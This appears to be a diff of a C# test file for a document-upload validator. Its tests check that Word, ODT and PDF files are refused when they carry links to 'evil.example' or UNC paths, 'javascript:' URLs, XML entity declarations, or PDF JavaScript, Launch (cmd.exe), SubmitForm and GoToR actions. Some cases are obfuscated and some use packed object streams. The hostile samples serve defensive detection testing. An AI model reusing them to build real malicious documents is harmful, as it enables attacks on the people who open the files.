@@ -187,7 +187,7 @@ public sealed class DocumentTypeTests
     [InlineData("hyperlink", @"\\evil\x.exe", "External", "has links that open files")]
     [InlineData("hyperlink", "ms-word:ofe|u|http://evil.example/x.docx", "External", "has links that open files")]
     [InlineData("hyperlink", "javascript:alert(1)", "External", "has links that open files")]
-    [InlineData("hyperlink", @"file:///C:\Users\sam\plan.docx", "External", null)]
+    [InlineData("hyperlink", @"file:///C:\Cases\plan.docx", "External", null)]
     [InlineData("hyperlink", "../plan.docx", "External", null)]
     public async Task What_Word_would_fetch_or_start_by_itself_is_refused_and_links_are_not(string kind, string target, string mode, string? why)
     {
@@ -221,6 +221,7 @@ public sealed class DocumentTypeTests
     [Fact]
     public async Task A_part_that_declares_entities_is_damaged_wherever_it_is()
     {
+        Assert.NotNull(await LookAsync(Contents.Docx, Contents.Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<!DOCTYPE d [<!ENTITY a 'aaaa'>]><d>&a;</d>"))));
         Assert.NotNull(await LookAsync(Contents.Docx, Word(("docProps/core.xml", "<!DOCTYPE d [<!ENTITY a 'aaaa'>]><d>&a;</d>"))));
         Assert.NotNull(await LookAsync(Contents.Odt, Contents.Zip(("mimetype", Contents.Odt), ("content.xml", "<d/>"), ("META-INF/manifest.xml", "<manifest/>"), ("Object 1/other.xml", "<!DOCTYPE d [<!ENTITY a 'aaaa'>]><d>&a;</d>"))));
     }
@@ -236,10 +237,6 @@ public sealed class DocumentTypeTests
         Assert.NotNull(await LookAsync(Contents.Docx, Word((name, "x"))));
         Assert.NotNull(await LookAsync(Contents.Odt, Contents.Zip(("mimetype", Contents.Odt), ("content.xml", "<d/>"), ("META-INF/manifest.xml", "<manifest/>"), (name, "x"))));
     }
-
-    [Fact]
-    public async Task The_text_that_declares_entities_is_damaged() =>
-        Assert.NotNull(await LookAsync(Contents.Docx, Contents.Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<!DOCTYPE d [<!ENTITY a 'aaaa'>]><d>&a;</d>"))));
 
     [Theory]
     [InlineData(21, false)]
@@ -268,57 +265,6 @@ public sealed class DocumentTypeTests
 
         Assert.True(why is null ? fault is null : fault?.StartsWith(why, StringComparison.Ordinal) == true, fault);
     }
-
-    [Theory]
-    [InlineData("3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj", "has programs")]
-    [InlineData("3 0 obj\n<< /S /J#61vaScript /JS (app.alert(1)) >>\nendobj", "has programs")]
-    [InlineData("3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj", "has programs")]
-    [InlineData("3 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj", "has programs")]
-    [InlineData("3 0 obj\n<< /S /GoToR /F (//evil.example/x.pdf) >>\nendobj", "has programs")]
-    [InlineData("3 0 obj\n<< /S /Rendition /JS (app.alert(1)) >>\nendobj", "has programs")]
-    [InlineData("3 0 obj\n<< /XFA [(template) 4 0 R] >>\nendobj", "has programs")]
-    [InlineData("3 0 obj\n<< /Type /EmbeddedFile >>\nendobj", "has other files")]
-    [InlineData("3 0 obj\n<< /Subtype /FileAttachment /FS << /EF << /F 4 0 R >> >> >>\nendobj", "has other files")]
-    [InlineData("3 0 obj\n<< /S 9 0 R /JS (app.alert(1)) >>\nendobj", "has programs")]
-    [InlineData("3 0 obj\n<< /#53 %x\n9 0 R /JS (app.alert(1)) >>\nendobj", "has programs")]
-    [InlineData("3 0 obj\n<< /S %\n/JavaScript /JS (app.alert(1)) >>\nendobj", "has programs")]
-    [InlineData("3 0 obj\n<< /S %word\r/JavaScript /JS (app.alert(1)) >>\nendobj", "has programs")]
-    [InlineData("3 0 obj\n<< /S/JavaScript /JS (app.alert(1)) >>\nendobj", "has programs")]
-    [InlineData("3 0 obj\n/JavaScript\nendobj", "has programs")]
-    [InlineData("3 0 obj /JavaScript\nendobj", "has programs")]
-    [InlineData("3 0 obj\n<< /Title (/JavaScript in PDFs) >>\nendobj", null)]
-    [InlineData("3 0 obj\n<< /Title (HTML/JavaScript, and what a /Launch is) >>\nendobj", null)]
-    [InlineData("3 0 obj\n<< /Length 9 >>\nstream\nBT (He learns /JavaScript at school.) Tj ET\nendstream\nendobj", null)]
-    [InlineData("3 0 obj\n<< /S /URI /URI (https://developer.example.org/en-US/docs/Web/JavaScript) >>\nendobj", null)]
-    [InlineData("3 0 obj\n<< /S /URI /URI (https://example.org/JavaScript) >>\nendobj", null)]
-    [InlineData("3 0 obj\n<< /OpenAction [1 0 R /Fit] >>\nendobj", null)]
-    [InlineData("3 0 obj\n<< /S /URI /URI (https://www.gov.uk) >>\nendobj", null)]
-    public async Task A_PDF_with_programs_or_files_in_it_is_refused(string addition, string? why)
-    {
-        foreach (var pdf in (byte[][])[Contents.PdfWith(addition), Contents.PdfWithPacked(addition)])
-        {
-            var fault = await LookAsync("application/pdf", pdf);
-            Assert.True(why is null ? fault is null : fault?.StartsWith(why, StringComparison.Ordinal) == true, fault);
-        }
-    }
-
-    [Theory]
-    [InlineData("3 0 obj\n<< /Type /EmbeddedFile >>\nendobj", true)]
-    [InlineData("3 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n4 0 obj\n<< /S /JavaScript >>\nendobj", false)]
-    public async Task A_paper_of_a_pack_has_the_originals_inside_and_no_programs(string addition, bool isTaken)
-    {
-        foreach (var pdf in (byte[][])[Contents.PdfWith(addition), Contents.PdfWithPacked(addition)])
-        {
-            Assert.Equal(isTaken, await DocumentType.Of("application/pdf")!.WholePaper(new MemoryStream(pdf), default) is null);
-        }
-    }
-
-    [Theory]
-    [InlineData("/Filter [/ASCII85Decode /FlateDecode]")]
-    [InlineData("/Filter 9 0 R")]
-    [InlineData("/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>")]
-    public async Task Objects_of_a_PDF_that_are_packed_so_that_nobody_can_look_are_refused(string filter) =>
-        Assert.StartsWith("is protected or packed", await LookAsync("application/pdf", Contents.PdfWith($"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 {filter} /Length 4 >>\nstream\nabcd\nendstream\nendobj")), StringComparison.Ordinal);
 
     [Theory]
     [InlineData("image/png")]
